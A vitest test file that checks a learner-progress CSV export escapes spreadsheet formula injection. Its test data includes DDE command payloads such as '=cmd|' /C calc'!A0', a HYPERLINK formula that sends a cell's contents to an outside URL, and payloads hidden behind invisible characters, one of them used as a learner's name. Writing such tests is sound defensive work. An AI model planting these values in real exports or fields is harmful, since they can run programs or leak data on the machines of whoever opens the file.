import { describe, expect, test } from "vitest";
import { progressCsv } from "./progress-csv";
import { spreadsheetCell } from "./spreadsheet-cell";

describe("what a spreadsheet could compute is only shown", () => {
  test.each([
    { says: "a formula", text: "=1+1", cell: "'=1+1" },
    {
      says: "a link that sends data away",
      text: '=HYPERLINK("https://example.com?"&A1,"x")',
      cell: `'=HYPERLINK("https://example.com?"&A1,"x")`,
    },
    { says: "a program, as DDE", text: "=cmd|' /C calc'!A0", cell: "'=cmd|' /C calc'!A0" },
    { says: "plus", text: "+1+cmd", cell: "'+1+cmd" },
    { says: "minus", text: "-2+3", cell: "'-2+3" },
    { says: "at", text: "@SUM(A1:A9)", cell: "'@SUM(A1:A9)" },
    { says: "a pipe", text: "|calc", cell: "'|calc" },
    { says: "behind a blank", text: "  =1+1", cell: "'  =1+1" },
    { says: "behind a no-break space", text: "\u00a0=1+1", cell: "'\u00a0=1+1" },
    { says: "behind a zero-width space", text: "\u200b=1+1", cell: "'\u200b=1+1" },
    { says: "behind a byte order mark", text: "\ufeff=1+1", cell: "'\ufeff=1+1" },
    { says: "behind a zero byte", text: "\u0000=1+1", cell: "'=1+1" },
    { says: "behind a tab", text: "\t=1+1", cell: "'\t=1+1" },
    { says: "behind a line's end", text: "\r\n=1+1", cell: "'\r\n=1+1" },
    { says: "full-width equals", text: "＝1+1", cell: "'＝1+1" },
    { says: "full-width at", text: "＠SUM(A1)", cell: "'＠SUM(A1)" },
    { says: "a tab alone", text: "\tAda", cell: "'\tAda" },
    { says: "an ordinary name", text: "Ada Lovelace", cell: "Ada Lovelace" },
    { says: "a name with a hyphen", text: "Anne-Marie", cell: "Anne-Marie" },
    { says: "an equals sign within", text: "a = b", cell: "a = b" },
    { says: "nothing", text: "", cell: "" },
  ])("$says", ({ text, cell }) => {
    expect(spreadsheetCell(text)).toBe(cell);
  });
});

test("a row for each learner and assignment, every cell in quotes, and no cell of a person's begins a formula", () => {
  const at = new Date(Date.UTC(2026, 4, 3, 12));
  const assignment = {
    id: "a",
    kind: "exercise",
    subject: "retry",
    title: "Retry, then give up",
    href: "/exercises/retry",
    access: "free",
    opensOn: null,
    dueOn: new Date(Date.UTC(2026, 4, 9)),
    isOpen: true,
  } as const;
  const csv = progressCsv({
    assignments: [assignment],
    members: [
      {
        userId: "1",
        shownName: '=cmd|"/C calc"!A0',
        joinedAt: at,
        standings: [{ kind: "trying", tries: 2, lastAt: at, overdue: false, score: { got: 3, of: 6 } }],
      },
      { userId: "2", shownName: "Bob", joinedAt: at, standings: [{ kind: "done", tries: 1, at, late: false, score: { got: 6, of: 6 } }] },
      { userId: "3", shownName: "Eve", joinedAt: at, standings: [{ kind: "none", overdue: true }] },
    ],
    misconceptions: [{ subject: "retry", says: "-MaxAttempts counts the first", members: ["1"], still: ["1"] }],
  });
  expect(csv.charCodeAt(0)).toBe(0xfeff);
  expect(csv.slice(1).trimEnd().split("\r\n")).toEqual([
    '"Learner","Kind","Assignment","Due","Standing","On","Tries","Points","Of","Misconceptions seen"',
    `"'=cmd|""/C calc""!A0","exercise","Retry, then give up","2026-05-09","begun","2026-05-03","2","3","6","'-MaxAttempts counts the first"`,
    '"Bob","exercise","Retry, then give up","2026-05-09","done","2026-05-03","1","6","6",""',
    '"Eve","exercise","Retry, then give up","2026-05-09","overdue","","0","","",""',
  ]);
});
